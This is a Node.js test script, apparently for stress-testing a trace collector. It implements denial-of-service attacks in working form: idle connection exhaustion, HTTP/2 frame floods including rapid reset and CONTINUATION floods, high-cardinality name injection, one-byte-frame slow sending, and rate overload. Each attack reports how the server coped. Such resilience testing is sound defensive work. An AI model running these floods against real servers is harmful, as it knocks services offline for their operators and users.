// Attacks that are a matter of numbers.  Each prints one JSON line with what
// was seen; test_attack.sh says what is bearable.
//
//   node attack.js idle ADDRESS COUNT SECONDS    connections that say nothing; "open N"
//   node attack.js floods ADDRESS                HTTP/2 frames without end: {name: {closed,sent_kib,ms}}
//   node attack.js names HTTP COUNT              as many names of every kind
//   node attack.js pieces ADDRESS MIB PID        a message in frames of a byte: {closed,sent_kib,cost_kib}
//   node attack.js overload HTTP SECONDS TIMES PID
'use strict';

const fs = require('fs');
const http = require('http');
const net = require('net');
const crypto = require('crypto');
const { split, batch, post } = require('./sender.js');

const sleep = (ms) => new Promise((resolve) => setTimeout(resolve, ms));
const say = (what) => console.log(typeof what === 'string' ? what : JSON.stringify(what));

async function connect_many(address, count) {
  let open = 0;
  let refused = 0;
  for (let i = 0; i < count; i += 200) {
    await Promise.all(Array.from({ length: Math.min(200, count - i) }, () => new Promise((resolve) => {
      const socket = net.connect(split(address), () => {
        open += 1;
        resolve();
      });
      socket.on('error', () => { refused += 1; resolve(); });
    })));
  }
  return { open, refused };
}

async function idle(address, count, seconds) {
  const said = await connect_many(address, count);
  say(`open ${said.open}`);
  await sleep(seconds * 1000);
  process.exit(0);
}

const preface = Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n');
function frame(type, flags, id, body) {
  const out = Buffer.alloc(9);
  out.writeUIntBE(body.length, 0, 3);
  out[3] = type;
  out[4] = flags;
  out.writeUInt32BE(id, 5);
  return Buffer.concat([out, body]);
}
const settings = frame(4, 0, 0, Buffer.alloc(0));
const open_stream = (id) => frame(1, 4, id, Buffer.from('838684410168', 'hex'));
const many = (count, make) => Buffer.concat(Array.from({ length: count }, (_, i) => make(i)));
let next_stream = 1;
const stream = () => (next_stream += 2);
// What one round of each flood is; rounds go on until the connection is closed.
const floods = {
  'rapid reset': () => many(200, () => { const id = stream(); return Buffer.concat([open_stream(id), frame(3, 0, id, Buffer.from('00000008', 'hex'))]); }),
  continuation: (round) => Buffer.concat([round ? Buffer.alloc(0) : frame(1, 0, 1, Buffer.from('838684', 'hex')),
    many(200, () => frame(9, 0, 1, Buffer.from('000161017a', 'hex')))]),
  'empty continuation': (round) => Buffer.concat([round ? Buffer.alloc(0) : frame(1, 0, 1, Buffer.from('838684', 'hex')),
    many(200, () => frame(9, 0, 1, Buffer.alloc(0)))]),
  settings: () => many(200, () => frame(4, 0, 0, Buffer.from('000300000064', 'hex'))),
  ping: () => many(200, () => frame(6, 0, 0, Buffer.alloc(8))),
  'pings at once': () => many(60000, () => frame(6, 0, 0, Buffer.alloc(8))),
  goaway: () => many(200, () => frame(7, 0, 0, Buffer.alloc(8))),
  'empty data': (round) => Buffer.concat([round ? Buffer.alloc(0) : open_stream(1), many(200, () => frame(0, 0, 1, Buffer.alloc(0)))]),
  priority: () => many(200, () => frame(2, 0, 1, Buffer.from('0000000010', 'hex'))),
  'window updates': () => many(200, () => frame(8, 0, 0, Buffer.from('00000001', 'hex'))),
  'reset by bad windows': () => many(200, () => { const id = stream(); return Buffer.concat([open_stream(id), frame(8, 0, id, Buffer.alloc(4))]); }),
};

function flood(address, make, limit_ms) {
  const begin = Date.now();
  next_stream = -1;
  return new Promise((resolve) => {
    let sent = 0;
    let round = 0;
    const socket = net.connect(split(address));
    const end = (closed) => {
      clearTimeout(timer);
      socket.destroy();
      resolve({ closed, sent_kib: Math.round(sent / 1024), ms: Date.now() - begin });
    };
    const timer = setTimeout(() => end(false), limit_ms);
    const more = () => {
      if (socket.destroyed || sent > 64 << 20) return;
      const part = make(round++);
      sent += part.length;
      socket.write(part, () => setImmediate(more));
    };
    socket.on('connect', () => { socket.write(Buffer.concat([preface, settings])); more(); });
    socket.on('data', () => {});
    for (const event of ['end', 'error', 'close']) socket.on(event, () => end(true));
  });
}

async function run_floods(address) {
  const said = {};
  for (const [name, make] of Object.entries(floods)) said[name] = await flood(address, make, 2000);
  say(said);
  process.exit(0);
}

// Names as an attacker would make them up, of each kind that becomes a node.
async function names(address, count) {
  const agent = new http.Agent({ keepAlive: true, maxSockets: 4 });
  const value = (key, stringValue) => ({ key, value: { stringValue } });
  const id = (len) => crypto.randomBytes(len).toString('hex');
  const word = () => id(5).replace(/[0-9]/g, (d) => 'ghijklmnop'[d]); // no number to be templated
  const now = String(BigInt(Date.now()) * 1000000n);
  const span = (name, kind, attributes) => ({ traceId: id(16), spanId: id(8), name, kind,
    startTimeUnixNano: now, endTimeUnixNano: now, attributes });
  const kinds = {
    services: () => [word(), [span('GET', 2, [])]],
    versions: () => ['shop', [span('GET', 2, [])], [value('service.version', word())]],
    instances: () => ['shop', [span('GET', 2, [])], [value('service.instance.id', word())]],
    scopes: () => ['shop', [span('GET', 2, [])], [], { name: word(), version: word() }],
    routes: () => ['shop', [span('GET', 2, [value('http.route', `/${word()}`), value('http.request.method', 'GET')])]],
    paths: () => ['shop', [span('GET', 2, [value('url.path', `/${word()}/${word()}`), value('http.request.method', 'GET')])]],
    span_names: () => ['shop', [span(word(), 2, [])]],
    symbols: () => ['shop', [span('work', 2, [value('code.function.name', `${word()}.${word()}`)])]],
    topics: () => ['shop', [span('send', 4, [value('messaging.system', 'kafka'), value('messaging.destination.name', word()), value('messaging.operation.type', 'send')])]],
    databases: () => ['shop', [span('SELECT', 3, [value('db.system.name', 'postgresql'), value('db.namespace', word())])]],
    peers: () => ['shop', [span('GET', 3, [value('peer.service', word())])]],
    rpc: () => ['shop', [span('call', 2, [value('rpc.system', 'grpc'), value('rpc.service', word()), value('rpc.method', word())])]],
  };
  const said = { sent: 0, failed: 0 };
  for (const make of Object.values(kinds)) {
    for (let done = 0; done < count; done += 500) {
      const resourceSpans = Array.from({ length: Math.min(500, count - done) }, () => {
        const [service, spans, more, scope] = make();
        return { resource: { attributes: [value('service.name', service), ...(more || [])] }, scopeSpans: [{ scope: scope || {}, spans }] };
      });
      const reply = await post(address, agent, Buffer.from(JSON.stringify({ resourceSpans })), 'application/json');
      if (reply.status === 200) said.sent += resourceSpans.length;
      else said.failed += 1;
    }
  }
  say(said);
  process.exit(0);
}

const resident_kib = (pid) => Number(/VmRSS:\s+(\d+)/.exec(fs.readFileSync(`/proc/${pid}/status`, 'utf8'))[1]);

// What is taken when senders wait as they are told, then |times| that.
// One message of MIB in frames of a byte each, as fast as it may come; says how
// much of it did, and KiB resident then.
function pieces(address, mib, pid) {
  const length = mib * 1024 * 1024;
  const literal = (index, text) => Buffer.concat([index, Buffer.from([text.length]), Buffer.from(text)]);
  const head = Buffer.concat([Buffer.from('8386', 'hex'),
    literal(Buffer.from([4]), '/opentelemetry.proto.collector.trace.v1.TraceService/Export'), literal(Buffer.from([1]), 'h'),
    literal(Buffer.from([0x0f, 0x10]), 'application/grpc'), literal(Buffer.from('00027465', 'hex'), 'trailers')]);
  const prefix = Buffer.alloc(5);
  prefix.writeUInt32BE(length, 1);
  const window = { 0: 65535, 1: 65535 };
  const piece = frame(0, 0, 1, Buffer.alloc(1));
  const socket = net.connect(split(address));
  const before = resident_kib(pid);
  let sent = 0;
  let initial = 65535;
  let input = Buffer.alloc(0);
  const end = (closed) => {
    say({ closed, sent_kib: Math.round(sent / 1024), cost_kib: resident_kib(pid) - before });
    process.exit(0);
  };
  const take = (type, flags, id, body) => {
    if (type === 3) end(true);
    if (type === 8) window[id] += body.readUInt32BE(0);
    if (type === 6 && !(flags & 1)) socket.write(frame(6, 1, 0, body));
    if (type !== 4 || flags & 1) return;
    for (let at = 0; at < body.length; at += 6) {
      if (body.readUInt16BE(at) !== 4) continue;
      window[1] += body.readUInt32BE(at + 2) - initial;
      initial = body.readUInt32BE(at + 2);
    }
    socket.write(frame(4, 1, 0, Buffer.alloc(0)));
  };
  const send = () => {
    while (!socket.writableNeedDrain) {
      const count = Math.min(window[0], window[1], 4096, length - 1 - sent);
      if (count <= 0) break;
      socket.write(Buffer.alloc(count * piece.length, piece));
      window[0] -= count;
      window[1] -= count;
      sent += count;
    }
    if (sent === length - 1) setTimeout(() => end(false), 500);
  };
  socket.on('data', (bytes) => {
    input = Buffer.concat([input, bytes]);
    while (input.length >= 9 && input.length >= 9 + input.readUIntBE(0, 3)) {
      const body = 9 + input.readUIntBE(0, 3);
      take(input[3], input[4], input.readUInt32BE(5), input.subarray(9, body));
      input = input.subarray(body);
    }
    send();
  });
  socket.on('drain', send);
  socket.on('error', () => {});
  socket.on('close', () => end(true));
  socket.write(Buffer.concat([preface, settings, frame(1, 4, 1, head), frame(0, 0, 1, prefix)]));
  window[0] -= prefix.length;
  window[1] -= prefix.length;
  setTimeout(() => end(false), 30000);
}

async function overload(address, seconds, times, pid) {
  const SPANS = 200;
  const agent = new http.Agent({ keepAlive: true, maxSockets: 256 });
  const make = batch(SPANS);
  const said = { acked: 0, unknown: 0, refused: 0, without_retry: 0, other: 0, resident_kib: 0 };
  const note = (reply) => {
    if (reply.status === 200) said.acked += SPANS;
    else if (reply.status === 503 || reply.status === 429) {
      said.refused += 1;
      said.without_retry += !reply.retry;
    } else if (reply.status === 0) said.unknown += SPANS;
    else said.other += 1;
    said.resident_kib = Math.max(said.resident_kib, resident_kib(pid));
    return reply.status;
  };
  let begin = Date.now();
  await Promise.all(Array.from({ length: 8 }, async () => {
    while (Date.now() - begin < 2000) if (note(await post(address, agent, make())) !== 200) await sleep(20);
  }));
  said.capacity = Math.round(said.acked / ((Date.now() - begin) / 1000));
  const rate = (said.capacity * times) / SPANS;
  const under_way = [];
  const ready = Array.from({ length: 200 }, make);
  let sent = 0;
  begin = Date.now();
  while (Date.now() - begin < seconds * 1000) {
    for (const due = ((Date.now() - begin) / 1000) * rate; sent < due; sent += 1) {
      const body = ready.length ? ready.pop() : make();
      under_way.push(post(address, agent, body).then(note));
    }
    await sleep(5);
  }
  said.offered = Math.round((sent * SPANS) / ((Date.now() - begin) / 1000));
  begin = Date.now();
  await Promise.all(under_way);
  for (let row = 0; row < 10;) row = note(await post(address, agent, make())) === 200 ? row + 1 : 0;
  said.recovered_ms = Date.now() - begin;
  say(said);
  process.exit(0);
}

const [, , what, ...words] = process.argv;
const runs = {
  idle: () => idle(words[0], Number(words[1]), Number(words[2])),
  floods: () => run_floods(words[0]),
  names: () => names(words[0], Number(words[1])),
  pieces: () => pieces(words[0], Number(words[1]), words[2]),
  overload: () => overload(words[0], Number(words[1]), Number(words[2]), words[3]),
};
runs[what]();
